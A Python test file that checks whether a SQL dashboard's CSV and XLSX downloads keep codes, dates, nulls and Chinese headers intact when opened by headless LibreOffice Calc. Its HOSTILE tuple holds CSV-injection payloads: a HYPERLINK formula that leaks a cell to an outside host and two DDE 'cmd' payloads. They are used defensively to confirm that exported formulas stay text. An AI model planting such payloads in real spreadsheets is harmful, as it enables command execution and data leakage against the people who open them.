"""The SQL workbench's downloads, opened by a real office suite: LibreOffice Calc, headless.

Calc stands in for Excel and WPS (which read a CSV the same way: an all-digit field is a
number, so an 18-digit USCC loses its last digits and division `01` its zero). Each test takes
`enterprise_directory` as the analyst downloads it (safe_sql.run_query, then the makers the page's
buttons use, in `workbench.EXPORTS`), lets Calc open the file and save it again, and reads what
Calc made of it back as strings.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashboard import workbench
from warehouse import safe_sql

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# What Calc's import dialog proposes for a UTF-8 file with a BOM: comma, double quote, UTF-8 (76),
# from line 1; formulas evaluated, special numbers not detected (its defaults).
CSV_IMPORT = "CSV:44,34,76,1"
CSV_EXPORT = "csv:Text - txt - csv (StarCalc):44,34,76,1"
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?q="&A2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
CJK = re.compile(r"[\u3400-\u9fff]")


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory):
    """convert(src, to, infilter=None) -> the file Calc wrote; one LibreOffice profile for the module."""
    assert SOFFICE, "LibreOffice (soffice) is needed for this test: apt-get install libreoffice-calc"
    base = tmp_path_factory.mktemp("office")
    profile = (base / "profile").as_uri()

    def convert(src: Path, to: str, infilter: str | None = None) -> Path:
        out = Path(tempfile.mkdtemp(prefix=f"{src.suffix[1:]}-to-{to.split(':')[0]}-", dir=base))
        cmd = [SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--norestore"]
        if infilter:
            cmd.append(f"--infilter={infilter}")
        cmd += ["--convert-to", to, "--outdir", str(out), str(src)]
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=600, check=False)
        written = list(out.iterdir())
        assert done.returncode == 0 and len(written) == 1, (done.stdout, done.stderr)
        return written[0]

    return convert


@pytest.fixture(scope="module")
def directory(demo_db: Path) -> pd.DataFrame:
    """enterprise_directory as the analyst's query returns it, plus three rows of formula-like names."""
    df = safe_sql.run_query(demo_db, "select * from enterprise_directory", role="analyst", row_cap=100_000).df
    hostile = df.head(len(HOSTILE)).copy()
    hostile["enterprise_name"] = list(HOSTILE)
    return pd.concat([df, hostile], ignore_index=True)


def maker(fmt_key: str, language: str):
    """The bytes maker behind the SQL page's download button of that format."""
    for key, fn, _, _ in workbench.EXPORTS:
        if key == fmt_key:
            return workbench.maker_in(key, fn, language)
    raise KeyError(fmt_key)


def code_columns(df: pd.DataFrame) -> list[str]:
    return [c for c in df.columns if safe_sql.is_code_column(c)]


def test_code_columns_come_from_the_contract(directory: pd.DataFrame) -> None:
    assert code_columns(directory) == [
        "enterprise_id",
        "industry_code",
        "division",
        "first_report_period",
        "last_report_period",
    ]
    assert {"project_id", "matter_code", "case_id", "talent_id", "period"} <= safe_sql.code_column_names()
    # the case the issue found: USCCs that are all digits (a spreadsheet reads them as numbers)
    assert directory["enterprise_id"].str.fullmatch(r"\d{18}").sum() > 100


def test_csv_opened_by_calc_keeps_every_code_and_no_formula_runs(
    directory: pd.DataFrame, office, tmp_path: Path
) -> None:
    src = tmp_path / "enterprise_directory.csv"
    src.write_bytes(maker("csv", "zh")(directory))
    opened = office(src, "xlsx", CSV_IMPORT)

    wb = openpyxl.load_workbook(opened, data_only=True)
    rows = list(wb.active.iter_rows(values_only=True))
    header = list(rows[0])
    assert header == list(directory.columns)
    for name in code_columns(directory):
        j = header.index(name)
        expected = directory[name].tolist()
        got = [r[j] for r in rows[1:]]
        wrong = [(e, g) for e, g in zip(expected, got, strict=True) if not (pd.isna(e) and g is None) and g != e]
        assert not wrong, f"{name}: {len(wrong)} codes changed by Calc, e.g. {wrong[:3]}"

    # formula-like text stays text: nothing Calc evaluated (the CSV's own ="…" codes are ours)
    formulas = openpyxl.load_workbook(opened).active
    j = header.index("enterprise_name")
    names = [row[j] for row in formulas.iter_rows(min_row=len(rows) - len(HOSTILE) + 1)]
    assert [c.value for c in names] == ["'" + h for h in HOSTILE]
    assert all(c.data_type == "s" for c in names)
    used = {c.value for row in formulas.iter_rows(min_row=2) for c in row if c.data_type == "f"}
    assert all(re.fullmatch(r'="[\d\-/.:]+"', v) for v in used), sorted(used)[:5]


def test_xlsx_opened_by_calc_keeps_codes_dates_nulls_and_chinese_headers(
    directory: pd.DataFrame, office, tmp_path: Path
) -> None:
    src = tmp_path / "enterprise_directory.xlsx"
    src.write_bytes(maker("xlsx", "zh")(directory))

    # what Calc saves after opening it: codes text, dates dates, NULL empty, formulas none
    saved = openpyxl.load_workbook(office(src, "xlsx")).active
    rows = list(saved.iter_rows())
    header = [c.value for c in rows[0]]
    assert header[0] == "统一社会信用代码（企业编号）"
    assert all(CJK.search(h) for h in header), header
    assert len(set(header)) == len(header)
    cols = list(directory.columns)
    for name in code_columns(directory):
        j = cols.index(name)
        got = [r[j].value for r in rows[1:]]
        expected = [None if pd.isna(v) else v for v in directory[name]]
        assert got == expected, name
        assert all(r[j].data_type == "s" for r in rows[1:] if r[j].value is not None)
    j = cols.index("registered_on")
    dates = [r[j] for r in rows[1:] if r[j].value is not None]
    assert dates and all(c.is_date and "h" not in c.number_format.lower() for c in dates)
    assert [c.value.date() for c in dates[:50]] == [v.date() for v in directory["registered_on"].dropna().head(50)]
    for name in ("specialized_rung", "growth_rung"):  # integer columns with NULLs
        j = cols.index(name)
        got = [r[j].value for r in rows[1:]]
        assert got == [None if pd.isna(v) else int(v) for v in directory[name]], name
    assert not any(c.value == "<NA>" for row in rows for c in row)
    formulas = {c.value for row in rows for c in row if c.data_type == "f"}
    assert formulas <= {"=TRUE()", "=FALSE()"}, formulas  # Calc writes booleans as these; nothing else runs

    # and as text, the way Calc shows the cells: dates without a time, formula text without an apostrophe
    text = office(src, CSV_EXPORT)
    back = list(csv.reader(io.StringIO(text.read_text(encoding="utf-8-sig"))))
    assert back[0] == header
    j = cols.index("registered_on")
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", r[j]) for r in back[1:] if r[j]), back[1][j]
    j = cols.index("enterprise_name")
    assert [r[j] for r in back[-len(HOSTILE) :]] == list(HOSTILE)
    assert not any(v == "<NA>" for r in back for v in r)


def test_xlsx_is_laid_out_for_reading(directory: pd.DataFrame) -> None:
    """Widths fit the content (CJK counted double); English page, English headers; codes formatted as text."""
    ws = openpyxl.load_workbook(io.BytesIO(maker("xlsx", "en")(directory))).active
    header = [c.value for c in ws[1]]
    assert header == list(directory.columns)
    widths = {c.column_letter: ws.column_dimensions[c.column_letter].width for c in ws[1]}
    cols = list(directory.columns)
    letter = {name: ws.cell(1, 1 + cols.index(name)).column_letter for name in cols}
    assert widths[letter["enterprise_id"]] >= 18
    longest_name = max(directory["enterprise_name"].map(safe_sql._display_width))
    assert widths[letter["enterprise_name"]] >= min(60, longest_name)
    assert widths[letter["registered_on"]] >= 10
    assert ws.cell(2, 1 + cols.index("division")).number_format == "@"
    assert ws.cell(2, 1 + cols.index("registered_on")).number_format == "yyyy-mm-dd"
    assert isinstance(ws.cell(2, 1 + cols.index("registered_on")).value, dt.datetime)
